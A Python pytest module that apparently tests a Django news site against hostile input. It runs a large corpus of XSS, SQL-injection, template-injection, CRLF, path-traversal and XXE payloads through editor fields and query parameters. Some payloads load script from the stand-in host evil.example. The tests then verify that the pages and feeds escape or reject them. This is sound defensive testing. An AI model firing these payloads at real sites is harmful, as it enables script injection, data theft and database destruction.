"""Hostile input: XSS and injection payloads in every editor-controlled field and every query
parameter, read back from every public surface with real parsers.

A corpus of payloads (PAYLOADS, kept here as data) goes through the real write paths
(create_draft, publish, save_image, taggit, model saves after full_clean) into headline,
kicker, standfirst, body, dateline, source, image caption / alt text / credit, contributor
name / affiliation / bio, section name / description, tag names and correction text. Story n
takes payload n in its headline, n+1 in its kicker, and so on, so every payload lands in every
field once. Then every page, feed, sitemap and JSON-LD block that shows a field is fetched
and checked:

- HTML (html.parser): no element or attribute the page's templates do not make for a
  harmless control story, no <script> but JSON-LD, no on* attribute, no script URL, no frame,
  object, SVG, MathML, base, refresh, style or foreign form; the text a field shows is the
  stored value, exactly (so `{{ 7*7 }}` is shown as written, never as 49).
- JSON-LD: every block parses and its strings equal the stored values.
- Feeds and sitemaps: parse as XML (xml.etree) and for feedparser without bozo; titles and
  texts equal the stored values without the characters XML cannot carry.

Every payload is also sent as the value (and some as the name) of every query parameter of
the public site: the answer is 200, 301, 400 or 404, never 500; nothing is reflected
unescaped, no header is injected, and the search box shows the query back as typed.
"""

import itertools
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from io import BytesIO
from urllib.parse import urlsplit

import feedparser
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from PIL import Image as PILImage

from articles.forms import ArticleAdminForm
from articles.models import Article, Contributor, Correction, Credit, Image, Section
from articles.publishing import create_draft, publish, save_image
from articles.sanitizing import sanitize_body
from tests.conftest import make_article, make_contributor, make_section, make_user

SITE = "Newsroom"
SEARCH_WORD = "Lagebericht"

# The corpus ---------------------------------------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script\tsrc=//evil.example/x.js></script>",
    "<script\nsrc=//evil.example/x.js></script>",
    "<script >alert(1)</script >",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<script type="module">import("//evil.example")</script>',
    '<script type="application/ld+json">{"@type":"Person","name":"x"}</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<plaintext><script>alert(1)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

EVENT_HANDLERS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "' autofocus onfocus=alert(1) '",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=`alert(1)`",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '"/><script>alert(1)</script>',
    '" style="background:url(javascript:alert(1))',
    '" onerror="alert(1)" x="',
    'x" onclick=alert(1)//',
    '"\tonmouseover=alert(1)',
    '"/onmouseover="alert(1)',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<em oNcLiCk=alert(1)>x</em>",
    "<b onclick\n=alert(1)>x</b>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<x onclick=alert(1)>klick</x>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
]

SCRIPT_URLS = [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="https://example.com" title="javascript:alert(1)">x</a>',
    '<a href="https://example.com" title=\'" onmouseover=alert(1)\'>x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://example.com" target="_top">x</a>',
    '<a href="https://example.com" target="_BLANK" rel="opener">x</a>',
    '<a href="mailto:x@example.com?subject=<script>alert(1)</script>">x</a>',
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]

BREAKOUTS = [
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</a><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "</head><body onload=alert(1)>",
    "]]>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "-->",
    "--><script>alert(1)</script>",
    "<!--",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "--!><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?php echo 1; ?>",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#0000060script&#0000062alert(1)",
    "&lt",
    "&amp;",
    "&",
    "&#",
    "&#x;",
    "&nbsp;&shy;&zwnj;",
    "&quot; onmouseover=&quot;alert(1)",
    "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    '\\"><script>alert(1)</script>',
    "\\'; alert(1); //",
    "';alert(1)//",
    '";alert(1)//',
]

UNICODE = [
    "\u2028<script>alert(1)</script>\u2029",
    "Zeile\u2028Umbruch\u2029Absatz",
    "\u202eevil.exe\u202dtxt",
    "Rechnung\u202egpj.exe",
    "\u200b<\u200bscript\u200b>alert(1)",
    "\u200c\u200d\ufeff\u2060",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\uff02 onmouseover=\uff02alert(1)",
    "\u02bc onmouseover=\u02bcalert(1)",
    "\u2018 onmouseover=\u2019alert(1)\u201c\u201d",
    "\u3008script\u3009alert(1)\u3008/script\u3009",
    "\u00ad<script>alert(1)</script>",
    "\u2066isoliert\u2069 \u2067rtl\u2069",
    "\u061c\u200e\u200f\u202a\u202b\u202c",
    "\U000e0041\U000e0042\U000e007f",
    "\U00010000\U0010fffd",
    "A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 Zalgo",
    "Z\u0335\u0322\u031b\u034e\u0347\u0344a\u0337\u0353\u034al\u0336\u0328g\u0338\u032fo\u0335\u031c",
    "e\u0301 \u00e9 A\u030a \u00c5",
    "\U0001f4a5\U0001f525",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 Familie",
    "\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1e9\U0001f1ea\U0001f1fa\U0001f1e6",
    "\U0001f44d\U0001f3fd \U0001f600<script>alert(1)</script>\U0001f600",
    "\u0644\u0627 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\u65e5\u672c\u8a9e\u306e\u898b\u51fa\u3057",
    "\u00dcn\u00efc\u00f6d\u00e9 \u00dcml\u00e4\u00fcte Fu\u00dfball",
    "\u1680\u2000\u2001\u2002\u3000 Leerzeichen",
]

_C0 = [chr(code) for code in [*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]]
CONTROL = [f"Steuer{a}zei{b}chen" for a, b in zip(_C0[::2], _C0[1::2], strict=True)]
CONTROL += [
    "Wagen\rR\u00fccklauf",
    "Zeilen\r\nende",
    "DEL\x7fC1\x80\x85\x9b\x9f",
    "\x1b[31mrot\x1b[0m",
    "\x00",
    "<scr\x00ipt>alert(1)</script>",
    "java\x00script:alert(1)",
    "Null\x00Byte",
]

LONG = [
    "A" * 10_000,
    "<script>" * 1_000,
    "&" * 5_000,
    '"' * 3_000,
    "\u00e4" * 5_000,
    "\U0001f4a5" * 2_000,
    "<b>" * 3_000 + "tief",
    "wort " * 20_000,
    '<a href="https://example.com/">x</a>' * 300,
    "x" * 100_000,
]

SQL = [
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE articles_article; --",
    '"; DROP TABLE articles_article; --',
    "1; SELECT pg_sleep(5)--",
    "' UNION SELECT username, password FROM auth_user --",
    "%' OR '%'='",
    "' || (SELECT version()) || '",
    "$$; DROP TABLE articles_section; $$",
    "'); DELETE FROM auth_user; --",
    '"unclosed phrase',
    "-",
    "!!!((( :* <-> & | !",
    "a & b | !c <2> d:*",
    "'",
    '"',
    "\\",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{ settings.SECRET_KEY }}",
    "{% csrf_token %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ article.headline|safe }}",
    "{% include 'base.html' %}",
    "{% extends 'base.html' %}",
    "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "%s%s%s%n",
    "%(headline)s",
]

CRLF = [
    "%0d%0aSet-Cookie: hacked=1",
    "%0D%0ALocation: https://evil.example",
    "\r\nSet-Cookie: hacked=1",
    "\r\n\r\n<script>alert(1)</script>",
    "\nX-Injected: 1",
    "%E5%98%8A%E5%98%8DSet-Cookie:hacked=1",
    "\u560a\u560dSet-Cookie: hacked=1",
    "\u2028Set-Cookie: hacked=1",
]

TRAVERSAL = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "..;/admin/",
]

JSON_BREAKOUTS = [
    '"}]},{"@type":"x',
    '"}</script><script>alert(1)</script>',
    '\\"}',
    "\\u0022}\\u003c/script\\u003e",
    '{"@context":"https://evil.example"}',
    '","@type":"Person","name":"x',
    "\\\\",
    "\\n\\r\\t",
    '{"__proto__":{"polluted":1}}',
    "null",
    "1e999",
]

XML_BREAKOUTS = [
    "<![CDATA[",
    "<![CDATA[]]]]><![CDATA[>]]>",
    "&xxe;",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<?xml version="1.0"?>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!ENTITY lol "lol">&lol;',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "</channel></rss><script>alert(1)</script>",
    "</title><link>javascript:alert(1)</link>",
    "</entry><entry><title>x</title></entry>",
    "</news:title></news:news>",
    "&#0;&#x1;&#xFFFE;&#xD800;",
    "<<>>",
    "<",
    ">",
    "<?",
]

FIGURES = [
    '<figure data-embed="youtube" data-id="\\"><script>alert(1)</script>"></figure>',
    '<figure data-embed="youtube" data-id="x\\" onload=\\"alert(1)"></figure>',
    '<figure data-embed="youtube" data-id="javascript:alert(1)"></figure>',
    '<figure data-embed="javascript:alert(1)" data-id="dQw4w9WgXcQ"></figure>',
    '<figure data-embed="iframe" data-id="https://evil.example/"></figure>',
    '<figure data-embed="vimeo" data-id="1 onmouseover=alert(1)"></figure>',
    '<figure data-embed="map" data-id="14/52.5/13.4&quot;><script>alert(1)</script>"></figure>',
    '<figure data-image="1&quot; onerror=&quot;alert(1)" data-align="full"></figure>',
    '<figure data-image="1" data-align="full\\" style=\\"position:fixed"></figure>',
    "<figure data-image=1 data-align=middle><img src=x onerror=alert(1)></figure>",
    "<figcaption><script>alert(1)</script></figcaption>",
]

DATES_AND_NUMBERS = ["0001-01-01", "9999-12-31", "2024-02-30", "2024-W01-1", "-1", "1e3", "²"]

PAYLOADS = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + SCRIPT_URLS
        + BREAKOUTS
        + ENTITIES
        + UNICODE
        + CONTROL
        + LONG
        + SQL
        + TEMPLATES
        + CRLF
        + TRAVERSAL
        + JSON_BREAKOUTS
        + XML_BREAKOUTS
        + DATES_AND_NUMBERS
        + FIGURES
    )
)
N = len(PAYLOADS)


def test_the_corpus_is_large_and_varied():
    assert N >= 200
    assert any("\x00" in p for p in PAYLOADS) and any(len(p) >= 100_000 for p in PAYLOADS)


def label(index: int) -> str:
    """A payload as a failure message names it: number and a readable, short repr."""
    text = repr(PAYLOADS[index % N])
    return f"#{index % N} {text[:60]}{'…' if len(text) > 60 else ''}"


# What the tests count -------------------------------------------------------------------------


class Tally:
    checks = 0


def expect(problems: list, condition: bool, message: str) -> None:
    Tally.checks += 1
    if not condition:
        problems.append(message)


# HTML, parsed -----------------------------------------------------------------------------------

VOID = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "keygen",
    "link",
    "meta",
    "param",
    "source",
    "track",
    "wbr",
}
FORBIDDEN = {"iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base"}
FORBIDDEN |= {"style", "template", "noscript", "xmp", "plaintext", "textarea", "frame"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset"}
IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200d\ufeff]+")
SEARCH_PATHS = {"/suche/", "/en/search/"}


@dataclass
class Node:
    tag: str | None
    attrs: list = field(default_factory=list)
    children: list = field(default_factory=list)
    parent: "Node | None" = None

    def get(self, name, default=None):
        return next((v for k, v in self.attrs if k == name), default)

    @property
    def classes(self) -> set:
        return set((self.get("class") or "").split())

    def text(self) -> str:
        return "".join(c for c in self.strings())

    def strings(self):
        stack = [iter(self.children)]  # no recursion: a body may nest thousands deep
        while stack:
            for child in stack[-1]:
                if isinstance(child, str):
                    yield child
                else:
                    stack.append(iter(child.children))
                    break
            else:
                stack.pop()

    def own_text(self) -> str:
        return "".join(c for c in self.children if isinstance(c, str))

    def walk(self):
        stack = [iter(self.children)]
        while stack:
            for child in stack[-1]:
                if isinstance(child, Node):
                    yield child
                    stack.append(iter(child.children))
                    break
            else:
                stack.pop()

    def find_all(self, tag, cls=None, **attrs):
        return [
            node
            for node in self.walk()
            if node.tag == tag
            and (cls is None or cls in node.classes)
            and all(node.get(k.replace("_", "-")) == v for k, v in attrs.items())
        ]

    def find(self, tag, cls=None, **attrs):
        found = self.find_all(tag, cls, **attrs)
        return found[0] if found else None


class Tree(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.root = self.current = Node(None)
        self.elements: list[Node] = []

    def handle_starttag(self, tag, attrs):
        node = Node(tag, attrs, parent=self.current)
        self.current.children.append(node)
        self.elements.append(node)
        if tag not in VOID:
            self.current = node

    def handle_startendtag(self, tag, attrs):
        node = Node(tag, attrs, parent=self.current)
        self.current.children.append(node)
        self.elements.append(node)

    def handle_endtag(self, tag):
        node = self.current
        while node is not None and node.tag != tag:
            node = node.parent
        if node is not None and node.parent is not None:
            self.current = node.parent

    def handle_data(self, data):
        self.current.children.append(data)


def parse_html(content: bytes) -> Tree:
    tree = Tree()
    tree.feed(content.decode())
    tree.close()
    return tree


def signature(node: Node) -> tuple:
    names = sorted(name for name, _value in node.attrs)
    if node.tag == "script":
        names.append(f"type={node.get('type')}")
    return (node.tag, tuple(names))


# What a story body may bring, on top of what the templates make for the control story.
BODY_SIGNATURES = {(tag, ()) for tag in ("p", "h2", "h3", "strong", "em", "b", "i", "br")}
BODY_SIGNATURES |= {(tag, ()) for tag in ("ul", "ol", "li", "blockquote", "a")}
BODY_SIGNATURES |= {
    ("a", tuple(sorted(names)))
    for names in itertools.chain.from_iterable(
        itertools.combinations(["href", "rel", "target", "title"], k) for k in range(1, 5)
    )
}


def html_problems(tree: Tree, allowed: set) -> list[str]:
    """What in the page is not what the site's templates make: scripts, handlers, URLs, tags."""
    problems = []
    for node in tree.elements:
        tag = node.tag
        expect(problems, tag not in FORBIDDEN, f"<{tag}> element")
        if tag == "script":
            expect(problems, node.get("type") == "application/ld+json", "executable <script>")
        if tag == "form":
            action = urlsplit(node.get("action") or "").path
            expect(problems, action in SEARCH_PATHS, f"foreign <form action={action!r}>")
        if tag == "meta":
            refresh = (node.get("http-equiv") or "").strip().lower() == "refresh"
            expect(problems, not refresh, "<meta http-equiv=refresh>")
        for name, value in node.attrs:
            expect(problems, not name.startswith("on"), f"<{tag} {name}=…> event handler")
            if name in URL_ATTRIBUTES and value:
                scheme = IGNORED_IN_URLS.sub("", value).lower()
                bad = scheme.startswith(("javascript:", "vbscript:", "data:", "livescript:"))
                expect(problems, not bad, f"<{tag} {name}={value[:40]!r}> script URL")
        expect(problems, signature(node) in allowed, f"unexpected markup {signature(node)}")
    for script in json_ld_scripts(tree):
        try:
            json.loads(script)
        except ValueError as error:
            problems.append(f"JSON-LD does not parse: {error}")
    return problems


def json_ld_scripts(tree: Tree) -> list[str]:
    return [
        n.text()
        for n in tree.elements
        if n.tag == "script" and n.get("type") == "application/ld+json"
    ]


def json_ld(tree: Tree) -> dict[str, dict]:
    return {item["@type"]: item for item in map(json.loads, json_ld_scripts(tree))}


# XML ----------------------------------------------------------------------------------------------

NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
ATOM = "{http://www.w3.org/2005/Atom}"
NS = {
    "dc": "http://purl.org/dc/elements/1.1/",
    "content": "http://purl.org/rss/1.0/modules/content/",
    "media": "http://search.yahoo.com/mrss/",
    "sm": "http://www.sitemaps.org/schemas/sitemap/0.9",
    "news": "http://www.google.com/schemas/sitemap-news/0.9",
}


def in_xml(value: str) -> str:
    """What an XML parser reads back for `value` as element text: no control characters (the
    site removes what XML cannot carry), line ends normalised as XML 1.0 says."""
    return NOT_XML.sub("", value).replace("\r\n", "\n").replace("\r", "\n")


def parse_xml(content: bytes, problems: list, *, feed: bool = False):
    expect(problems, b"<!DOCTYPE" not in content and b"<!ENTITY" not in content, "DTD in XML")
    try:
        root = ET.fromstring(content)
    except ET.ParseError as error:
        problems.append(f"not well-formed XML: {error}")
        return None
    Tally.checks += 1
    if feed:
        parsed = feedparser.parse(content)
        expect(problems, not parsed.bozo, f"feedparser bozo: {parsed.get('bozo_exception')}")
    return root


# Query parameters ---------------------------------------------------------------------------------
# These tests come first: they use a small newsroom of their own, made before the big one.

HEADER_BREAK = re.compile(r"[\r\n]")
QUERY_CONTROL = re.compile(r"[\x00-\x1f\x7f]")


@dataclass
class Small:
    section: Section
    child: Section
    contributor: Contributor
    tag_url: str
    story: Article
    allowed: set


@pytest.fixture
def small(db, client):
    """22 harmless stories (so listings and search have a second page), and what their pages
    legitimately contain."""
    section = make_section("Welt", slug="welt")
    child = make_section("Europa", slug="europa", parent=section)
    contributor = make_contributor("Anna Schmidt")
    stories = []
    for number in range(22):
        story = make_article(
            f"Meldung {number}",
            section=child if number % 2 else section,
            kicker="Dachzeile",
            standfirst="Der Vorspann.",
            body=f"<p>{SEARCH_WORD} {number}</p>",
            language="en" if number % 3 == 2 else "de",
            published_at=timezone.now() - timedelta(minutes=number + 1),
        )
        Credit.objects.create(article=story, contributor=contributor, role="author")
        story.tags.add("Klima")
        stories.append(story)
    small = Small(section, child, contributor, "/thema/klima/", stories[0], set(BODY_SIGNATURES))
    urls = ["/", "/?page=2", "/en/", "/welt/", "/welt/?page=2", "/europa/", small.tag_url]
    urls += [contributor.get_absolute_url(), stories[0].get_absolute_url(), "/feeds/"]
    urls += [f"/suche/?q={SEARCH_WORD}", f"/suche/?q={SEARCH_WORD}&page=2", "/suche/?q="]
    urls += ["/suche/?q=zzqqnichts", "/suche/?q=" + "x" * 300, "/gibt-es-nicht/"]
    for url in urls:
        response = client.get(url)
        assert response.status_code in {200, 404}, url
        small.allowed |= {signature(node) for node in parse_html(response.content).elements}
    return small


def response_problems(response, payload: str, allowed: set) -> list[str]:
    """Any answer but a 500; no header or cookie injected; nothing reflected raw; HTML with
    nothing the templates do not make; XML that parses."""
    problems = []
    status = response.status_code
    expect(problems, status in {200, 301, 400, 404}, f"status {status}")
    for name, value in response.headers.items():
        expect(problems, not HEADER_BREAK.search(value), f"line break in header {name}")
    expect(problems, "hacked" not in response.cookies, "cookie injected")
    expect(problems, "X-Injected" not in response.headers, "header injected")
    kind = response.headers.get("Content-Type", "")
    content = response.content
    if kind.startswith("text/html"):
        problems += html_problems(parse_html(content), allowed)
        text = content.decode()
        for form in {payload, " ".join(QUERY_CONTROL.sub(" ", payload).split())}:
            markup = len(form) >= 4 and any(ch in form for ch in '<>"')
            expect(problems, not (markup and form in text), "payload reflected unescaped")
    elif "xml" in kind and status == 200:
        parse_xml(content, problems, feed="/feeds/" in response.request["PATH_INFO"])
    return problems


def param_requests(small: Small, payload: str) -> list[tuple[str, dict]]:
    """Every parameter the public site reads, set to `payload`."""
    rare = {"q": "Meldung 7"}  # one result: the filters and pages are read, cheaply
    filters = {"section": payload, "from": payload, "to": payload}
    return [
        ("/", {"page": payload}),
        ("/welt/", {"page": payload}),
        (small.tag_url, {"page": payload}),
        (small.contributor.get_absolute_url(), {"page": payload}),
        ("/suche/", {"q": payload}),
        ("/en/search/", {"q": payload} | filters),
        ("/suche/", rare | filters),
        ("/suche/", rare | {"page": payload}),
        ("/sitemap-articles.xml", {"p": payload}),
        ("/sitemap-news.xml", {"p": payload}),
        ("/suche", {"q": payload}),  # CommonMiddleware redirects, query string and all
    ]


def test_query_parameter_values(small, client, subtests):
    for index, payload in enumerate(PAYLOADS):
        with subtests.test(msg="query parameters", payload=label(index)):
            problems = []
            for url, params in param_requests(small, payload):
                response = client.get(url, params)
                found = response_problems(response, payload, small.allowed)
                if url in SEARCH_PATHS and params.get("q") == payload:
                    shown = " ".join(QUERY_CONTROL.sub(" ", payload).split())
                    tree = parse_html(response.content)
                    value = tree.root.find("input", id="q").get("value")  # the page's one box
                    expect(found, value == shown, f"#q shows {value[:40]!r}")
                problems += [f"{url} {sorted(params)}: {p}" for p in found]
            assert not problems, problems


def test_parameters_the_page_ignores(small, client, subtests):
    """Pages that read no parameter get every payload at once, each in a parameter of its own
    (their answer cannot depend on which payload is in which)."""
    every = {f"x{index}": payload for index, payload in enumerate(PAYLOADS)}
    every |= {"page": PAYLOADS[0], "utm_source": PAYLOADS[1], "p": PAYLOADS[2]}
    for url in [
        small.story.get_absolute_url(),
        "/feeds/",
        "/feeds/rss/",
        "/feeds/atom/",
        "/feeds/section/welt/rss/",
        "/feeds/tag/klima/atom/",
        "/sitemap.xml",
        "/sitemap-sections.xml",
        "/robots.txt",
        "/en/",
    ]:
        with subtests.test(msg="ignored parameters", url=url):
            response = client.get(url, every)
            problems = []
            for index, payload in enumerate(PAYLOADS):
                found = response_problems(response, payload, small.allowed) if index == 0 else []
                if response.headers.get("Content-Type", "").startswith("text/html"):
                    markup = len(payload) >= 4 and any(ch in payload for ch in '<>"')
                    reflected = markup and payload in response.content.decode()
                    expect(found, not reflected, "payload reflected unescaped")
                problems += [f"{label(index)}: {p}" for p in found]
            assert not problems, problems


RAW_QUERIES = [
    "page=%00",
    "page=%ff%fe",
    "q=%ff%fe%fd",
    "q=%",
    "q=%%32%65",
    "q=%E5%98%8A%E5%98%8DSet-Cookie:hacked=1",
    "page=1%0d%0aSet-Cookie:%20hacked=1",
    "q=%0d%0aSet-Cookie:%20hacked=1",
    "q=a&q=%3Cscript%3E",
    "q[]=1&q[]=2",
    "=x",
    "&&&",
    "q",
    "page",
    "page=-1",
    "page=0",
    "page=%C2%B2",
    "page=%E2%91%A0",
    "page=%EF%BC%91",
    "page=%D9%A3",
    "page=99999999999999999999",
    "page=1.5",
    "page=%201",
    "p=%C2%B2",
    "from=%C2%B2&to=%00&q=x",
    "section=..%2F..%2Fetc%2Fpasswd&q=x",
    "q=" + "x" * 5000,
    "q=" + "%3Cscript%3E" * 500,
]
NAME_PAYLOADS = [p for p in PAYLOADS if len(p) < 200][::9]  # a few as parameter names


def test_raw_query_strings_and_hostile_parameter_names(small, client, subtests):
    paths = ["/", "/en/", "/welt/", "/suche/", "/en/search/", small.tag_url]
    paths += [small.contributor.get_absolute_url(), "/sitemap-articles.xml", "/feeds/rss/"]
    for path in paths:
        with subtests.test(msg="raw query strings", url=path):
            problems = []
            for raw in RAW_QUERIES:
                response = client.get(f"{path}?{raw}")
                found = response_problems(response, raw, small.allowed)
                problems += [f"{raw[:40]!r}: {p}" for p in found]
            assert not problems, problems
        with subtests.test(msg="hostile parameter names", url=path):
            problems = []
            for payload in NAME_PAYLOADS:
                params = {payload: "1"}
                if path in SEARCH_PATHS or path == "/":
                    params |= {"q": SEARCH_WORD, "page": "2"}  # pagination links repeat names
                response = client.get(path, params)
                found = response_problems(response, payload, small.allowed)
                problems += [f"{payload[:40]!r} as a name: {p}" for p in found]
            assert not problems, problems


# The world -------------------------------------------------------------------------------------


def fit(value: str, length: int | None = None) -> str:
    """A payload as the write path can store it: PostgreSQL refuses NUL (and the admin's forms
    reject it, see test_forms_refuse_nul), and CharFields have a length."""
    value = value.replace("\x00", "") or "NUL"
    return value[:length] if length else value


@dataclass
class Story:
    index: int
    article: Article
    section: Section
    contributor: Contributor
    tag_name: str
    tag_slug: str
    image: Image
    correction: str

    @property
    def url(self) -> str:
        return self.article.get_absolute_url()


def png(name: str) -> SimpleUploadedFile:
    buffer = BytesIO()
    PILImage.new("RGB", (8, 6), "teal").save(buffer, "PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


def build_story(index: int, *, root: Section, editor, control: bool = False) -> Story:
    def p(offset: int, length: int | None = None) -> str:
        if control:
            return f"Harmlos {offset}"
        return fit(PAYLOADS[(index + offset) % N], length)

    section = Section(
        name=p(6, 80),
        slug=f"rubrik-{index}",
        description=p(7, 300),  # every page unpickles every section: no 100 kB each
        parent=None if index % 10 == 0 and not control else root,
        order=index + 1,
    )
    section.full_clean()
    section.save()
    contributor = Contributor(
        name=p(8, 120), slug=f"autor-{index}", affiliation=p(9, 120), bio=p(10)
    )
    contributor.full_clean()
    contributor.save()
    image = save_image(
        Image(
            file=png(f"bild-{index}.png"), caption=p(3, 500), alt_text=p(4, 300), credit=p(5, 200)
        )
    )
    article = Article(
        headline=p(0, 200),
        kicker=p(1, 80),
        standfirst=p(2, 600),
        body=f"<p>{SEARCH_WORD} {index}</p>{p(11)}",
        dateline=p(12, 100),
        source=p(13, 120),
        section=section,
        lead_image=image,
        language="en" if index % 3 == 2 and not control else "de",
    )
    article = create_draft(article, by=editor)
    Credit.objects.create(article=article, contributor=contributor, role="author")
    # as stored: every text is saved in NFC without control characters (apps.clean_text_fields)
    correction = Correction.objects.create(article=article, text=p(14)).text
    tag_name = p(15, 100)
    article.tags.add(tag_name)
    article = publish(article, by=editor, at=timezone.now() - timedelta(minutes=index + 1))
    tag = article.tags.get()
    return Story(index, article, section, contributor, tag.name, tag.slug, image, correction)


@dataclass
class World:
    stories: list[Story]
    controls: list[Story]  # two, sharing a tag: so their pages show related stories
    allowed: set


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    """One newsroom for the module: a story per payload, plus a harmless control story; every
    payload reaches every field. Rolled back at the end."""
    with (
        django_db_blocker.unblock(),
        override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media")),
        transaction.atomic(),
    ):
        editor = make_user("hostile-editor", "Editor")
        root = Section.objects.create(name="Ressorts", slug="ressorts", order=0)
        stories = [build_story(i, root=root, editor=editor) for i in range(N)]
        controls = [build_story(N + n, root=root, editor=editor, control=True) for n in (0, 1)]
        yield World(stories, controls, set())
        transaction.set_rollback(True)


